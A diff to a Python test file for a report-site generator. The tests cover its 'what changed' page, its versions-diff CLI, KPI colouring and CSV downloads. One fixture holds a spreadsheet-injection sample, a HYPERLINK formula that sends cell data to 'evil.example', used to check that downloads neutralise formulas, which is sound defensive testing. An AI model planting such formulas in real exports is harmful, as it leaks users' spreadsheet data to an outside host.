@@ -6,12 +6,13 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import html as htmllib
+import json
 import re
 import shutil
 
 import duckdb
 import pytest
-from conftest import run_cli
+from conftest import deals_site, run_cli
 from versioning import (
     CREATED,
     DAY,
@@ -25,6 +26,9 @@ from versioning import (
     versioned_site,
     versions,
 )
+
+from gtmsite.components import Kpi
+from gtmsite.versions import kpi_values
 
 IDS = [DAY, f"{DAY}.2", f"{DAY}.3"]
 
@@ -104,44 +108,56 @@ def test_data_snapshot_csv_and_parquet_per_version(three):
             assert [(s, str(d)) for s, d in stages.fetchall()] == [(r[0], r[1]) for r in list(csv.reader(handle))[1:]]
 
 
+_VERDICT = {"good": "better", "bad": "worse", "neutral": ""}
+
+
 def _html_changes(page: str) -> tuple[set, set, list[str]]:
-    """(KPI rows, query rows, new page titles) from a _changes/index.html."""
+    """(KPI rows, query rows, new page titles) from a _changes/index.html: a KPI row is (page, label, before,
+    after, change, better/worse/""), a query row (page, query, rows before, after, added, removed, cells)."""
     kpis, queries = set(), set()
     for section in re.findall(r'<section class="change">(.*?)</section>', page, re.S):
         title = re.search(r"<h3><a [^>]*>(.*?)</a></h3>", section).group(1)
         for row in re.findall(r"<tr><td>(.*?)</td></tr>", section, re.S):
+            row = re.sub(r' <span class="kpi-cause[^"]*">[^<]*</span>', "", row)  # why it moved: test_metrics.py
             cells = [htmllib.unescape(re.sub(r"<[^>]+>", "", c)).strip() for c in re.split(r"</td>\s*<td[^>]*>", row)]
-            kpis.add((title, *cells))
-        for item in re.findall(r"<li>query (.*?)</li>", section, re.S):
-            text = htmllib.unescape(re.sub(r"<[^>]+>", "", item))
+            mood = re.search(r'class="gtm-delta (\w+) (\w+)"', row)
+            kpis.add((title, *cells, _VERDICT[mood.group(2)] if mood else ""))
+        for item, inner in re.findall(r"<li>query (.*?)(?:<ul class=\"cell-changes\">(.*?)</ul>)?</li>", section, re.S):
+            text = htmllib.unescape(re.sub(r"<[^>]+>", "", item)).strip()
             name, before, after, added, removed = re.fullmatch(r"(\w+): (\d+) → (\d+) rows \(\+(\d+) / −(\d+)\)",
                                                                text).groups()
-            queries.add((title, name, int(before), int(after), int(added), int(removed)))
+            cells = tuple(htmllib.unescape(re.sub(r"<[^>]+>", "", c)) for c in re.findall(r"<li>(.*?)</li>", inner))
+            queries.add((title, name, int(before), int(after), int(added), int(removed), cells))
     new = re.findall(r"<h2>New pages</h2>\s*<ul>(.*?)</ul>", page, re.S)
     return kpis, queries, re.findall(r"<a [^>]*>(.*?)</a>", new[0]) if new else []
 
 
 def _terminal_changes(text: str) -> tuple[set, set, list[str]]:
-    kpis, queries, new, title = set(), set(), [], ""
+    kpis, queries, new, title, query = set(), set(), [], "", None
     for line in text.splitlines():
         if m := re.fullmatch(r"\+ page \S+ \((.*)\)", line):
             new.append(m.group(1))
         elif m := re.fullmatch(r"~ page \S+ \((.*)\)", line):
             title = m.group(1)
         elif m := re.fullmatch(r"    query (\w+): (\d+) -> (\d+) rows \(\+(\d+) / -(\d+)\)", line):
-            queries.add((title, m.group(1), *map(int, m.groups()[1:])))
-        elif m := re.fullmatch(r"    (.+): (\S+) -> (\S+) \((\S+), (\S+)\)", line):
-            label, before, after, delta, relative = m.groups()
-            kpis.add((title, label, before, after, f"{delta} ({relative})"))  # as the page writes it
+            query = [title, m.group(1), *map(int, m.groups()[1:]), ()]
+            queries.add(tuple(query))
+        elif m := re.fullmatch(r"      (.+): (.+) -> (.+)", line):
+            queries.discard(tuple(query))
+            query[-1] = (*query[-1], f"{m.group(1)}: {m.group(2)} → {m.group(3)}")
+            queries.add(tuple(query))
+        elif m := re.fullmatch(r"    (.+): (\S+) -> (\S+) \((\S+), (\S+)\)(?: (better|worse))?(?: \[[a-z ]+\])?", line):
+            label, before, after, delta, relative, verdict = m.groups()
+            kpis.add((title, label, before, after, f"{delta} ({relative})", verdict or ""))  # as the page writes it
     return kpis, queries, new
 
 
 EXPECTED_2_TO_3 = (
-    {("Home", "Won revenue", "$6,400", "$7,300", "+$900 (+14.1%)"),
-     ("Home", "Deals (won)", "3", "4", "+1 (+33.3%)")},
-    {("Home", "all_deals", 5, 4, 1, 2),  # Globex changed (a row added, one removed), Initech removed
-     ("Home", "won", 1, 1, 1, 1),
-     ("Pipeline", "by_stage", 3, 1, 1, 3)},
+    {("Home", "Won revenue", "$6,400", "$7,300", "+$900 (+14.1%)", "better"),
+     ("Home", "Deals", "3", "4", "+1 (+33.3%)", "better")},
+    {("Home", "all_deals", 5, 4, 1, 2, ()),  # Globex changed (a row added, one removed), Initech removed
+     ("Home", "won", 1, 1, 1, 1, ()),  # both of its values are KPIs, shown above
+     ("Pipeline", "by_stage", 3, 1, 1, 3, ())},
     ["Notes"],
 )
 
@@ -159,20 +175,21 @@ def test_changes_page_and_versions_diff_show_the_same_numbers(three):
     # build 2 against build 1: one more won deal of 3000; "latest" names the newest version
     page = (output / "v" / IDS[1] / "_changes" / "index.html").read_text()
     kpis, queries, new = _html_changes(page)
-    assert kpis == {("Home", "Won revenue", "$3,400", "$6,400", "+$3,000 (+88.2%)"),
-                    ("Home", "Deals (won)", "2", "3", "+1 (+50.0%)")}
-    assert ("Home", "all_deals", 4, 5, 1, 0) in queries and new == []
+    assert kpis == {("Home", "Won revenue", "$3,400", "$6,400", "+$3,000 (+88.2%)", "better"),
+                    ("Home", "Deals", "2", "3", "+1 (+50.0%)", "better")}
+    assert ("Home", "all_deals", 4, 5, 1, 0, ()) in queries and new == []
     assert _terminal_changes(run_cli("versions", "diff", IDS[0], IDS[1], "--project", project).stdout) == (
         kpis, queries, new)
     first = run_cli("versions", "diff", IDS[0], "--project", project)  # B defaults to latest
-    assert ("Home", "Won revenue", "$3,400", "$7,300", "+$3,900 (+114.7%)") in _terminal_changes(first.stdout)[0]
+    assert ("Home", "Won revenue", "$3,400", "$7,300", "+$3,900 (+114.7%)", "better") in \
+        _terminal_changes(first.stdout)[0]
     assert "is the first version" in (output / "v" / IDS[0] / "_changes" / "index.html").read_text()
 
 
-def test_versions_diff_of_an_unknown_version_is_an_error(three):
+def test_versions_diff_of_an_unknown_version_is_a_usage_error(three):
     project, _, _ = three
     result = run_cli("versions", "diff", "1999-01-01", IDS[0], "--project", project)
-    assert result.exit_code == 1
+    assert result.exit_code == 2  # a mistake in the command's arguments, not in the site
     assert "no version '1999-01-01'" in result.stderr and IDS[0] in result.stderr
 
 
@@ -324,3 +341,124 @@ def test_an_unreadable_versions_json_is_an_error_and_no_version_is_deleted(tmp_p
     (output / "versions.json").write_text('[{"id": "../../x"}]')
     assert "expected a list of versions" in build(project).stderr
     assert files(output / "v") == before
+
+
+def test_a_cell_larger_than_the_csv_field_limit_does_not_break_later_builds(tmp_path):
+    """A cell over 131,072 characters: the next build compares with it (reading its CSV) and succeeds."""
+    big = "x" * 200_000
+    project = deals_site(tmp_path / "site", {
+        "sources/notes.csv": f"id,note\n1,{big}\n",
+        "reports/index.md": "```sql notes\nselect id, note, length(note) as n from notes\n```\n\n{{ table(notes) }}\n",
+    })
+    for step in range(3):
+        (project / "sources" / "notes.csv").write_text(f"id,note\n1,{big}\n" + f"{step + 2},y\n" * step)
+        result = run_cli("build", "--project", project)
+        assert result.exit_code == 0, result.output
+    diff = run_cli("versions", "diff", versions_of(project)[1], "--project", project)
+    assert diff.exit_code == 0, diff.output
+    assert "query notes: 2 -> 3 rows" in diff.stdout
+
+
+def versions_of(project):
+    return [v["id"] for v in json.loads((project / "build" / "versions.json").read_text())]
+
+
+FORMULAS = """\
+id,note,amount
+1,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",-5
+2,+1,3
+3,-2+3,4
+4,@SUM(A1),5
+5,plain,-6
+6,=1+1,7
+"""
+
+
+def test_csv_downloads_neutralise_formulas_and_what_changed_compares_raw_values(tmp_path):
+    report = ("# Cells\n\n```sql cells\nselect id, note, amount from notes order by id\n```\n\n"
+              "```sql controls\nselect chr(9) || 'tab' as t, chr(13) || 'cr' as r, '''=already' as q\n```\n\n"
+              "{{ table(cells) }}\n\n{{ table(controls) }}\n")
+    project = versioned_site(tmp_path / "site", {"sources/notes.csv": FORMULAS, "reports/cells.md": report})
+    build_ok(project)
+    data = project / "build" / "latest" / "_data" / "cells"
+    with open(data / "cells.csv", newline="") as handle:
+        table = list(csv.reader(handle))
+    assert table == [["id", "note", "amount"],
+                     ["1", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "-5"],  # numbers stay numbers
+                     ["2", "'+1", "3"], ["3", "'-2+3", "4"], ["4", "'@SUM(A1)", "5"], ["5", "plain", "-6"],
+                     ["6", "'=1+1", "7"]]
+    with open(data / "controls.csv", newline="") as handle:
+        assert list(csv.reader(handle))[1] == ["'\ttab", "'\rcr", "''=already"]
+    parquet = duckdb.sql(f"select note from read_parquet('{data / 'cells.parquet'}') order by id").fetchall()
+    assert parquet[0] == ('=HYPERLINK("http://evil.example/?"&A1,"Click")',)  # the snapshot keeps the raw data
+    # A cell that changes from =1+1 to '=1+1 (raw values) is a change, though both downloads start with '=1+1.
+    (project / "sources" / "notes.csv").write_text(FORMULAS.replace("6,=1+1,7", "6,'=1+1,7"), encoding="utf-8")
+    build_ok(project)
+    changes = (project / "build" / "latest" / "_changes" / "index.html").read_text()
+    assert ("Cells", "cells", 6, 6, 1, 1, ()) in _html_changes(changes)[1]
+    diff = run_cli("versions", "diff", DAY, "latest", "--project", project)
+    assert ("Cells", "cells", 6, 6, 1, 1, ()) in _terminal_changes(diff.stdout)[1]
+
+
+COSTS_MD = """\
+---
+title: Costs
+---
+
+```sql kpi
+select sum(amount) / count(*) as cac, count(*) as deals from deals
+```
+
+{{ big_value(kpi, "cac", title="CAC", fmt="usd0", down_is_good=true) }}
+
+CAC is {{ value(kpi, "cac", fmt="usd0") }} over {{ value(kpi, "deals") }} deals.
+"""
+
+CHANNEL_MD = """\
+---
+pages: select distinct channel from deals order by 1
+---
+
+# {{ params.channel }}
+
+```sql c
+select count(*) as deals, (select count(*) from deals) as all_deals from deals where channel = $channel
+```
+
+{{ big_value(c, "deals", title="Deals") }} of {{ c.first.all_deals }}.
+"""
+
+
+def test_what_changed_shows_every_kpi_once_coloured_by_whether_its_move_is_good(tmp_path):
+    project = deals_site(tmp_path / "site", {"reports/index.md": COSTS_MD, "reports/channels/[channel].md": CHANNEL_MD})
+    build_ok(project)
+    set_data(project, 1)  # one more won deal: 3,000 from Organic
+    build_ok(project)
+    page = (project / "build" / "latest" / "_changes" / "index.html").read_text()
+    expected = (
+        {("Costs", "CAC", "$1,150", "$1,520", "+$370 (+32.2%)", "worse"),  # a rise in a cost is bad news
+         ("Costs", "Deals", "4", "5", "+1 (+25.0%)", "better"),
+         ("Organic", "Deals", "1", "2", "+1 (+100.0%)", "better")},
+        {("Costs", "kpi", 1, 1, 1, 1, ()),  # its values are the KPIs above
+         ("Organic", "c", 1, 1, 1, 1, ("all_deals: 4 → 5",)),
+         ("Paid Search", "c", 1, 1, 1, 1, ("all_deals: 4 → 5",)),  # a templated page whose KPI did not move
+         ("Partner", "c", 1, 1, 1, 1, ("all_deals: 4 → 5",))},
+        [],
+    )
+    assert _html_changes(page) == expected
+    costs = re.search(r'<section class="change">\s*<h3><a [^>]*>Costs</a>.*?</section>', page, re.S).group(0)
+    assert costs.count("<tr><td>") == 2 and 'class="gtm-delta up bad"' in costs
+    diff = run_cli("versions", "diff", DAY, "latest", "--project", project)
+    assert _terminal_changes(diff.stdout) == expected
+    assert "    CAC: $1,150 -> $1,520 (+$370, +32.2%) worse [data changed]" in diff.stdout.splitlines()
+
+
+def test_kpis_are_listed_once_but_two_tiles_stay_two():
+    kpis = [Kpi("big_value", "q3", "deals", 5, None, "Q3 deals"), Kpi("big_value", "q4", "deals", 5, None, "Q4 deals"),
+            Kpi("value", "q3", "deals", 5, None, "Deals"),  # repeats the first tile
+            Kpi("value", "east", "cac", 7, "usd0", "CAC"), Kpi("value", "west", "cac", 7, "usd0", "CAC"),
+            Kpi("big_value", "tile", "cac", 7, "usd0", "Blended CAC", down_is_good=True),  # both values repeat it
+            Kpi("value", "x", "n", 1, None, "N"), Kpi("value", "y", "n", 2, None, "N")]
+    assert [(k.label, k.key, k.down_is_good) for k in kpi_values(kpis)] == [
+        ("Q3 deals", "big_value q3.deals", None), ("Q4 deals", "big_value q4.deals", None),  # None: not said
+        ("Blended CAC", "big_value tile.cac", True), ("N (x)", "value x.n", None), ("N (y)", "value y.n", None)]
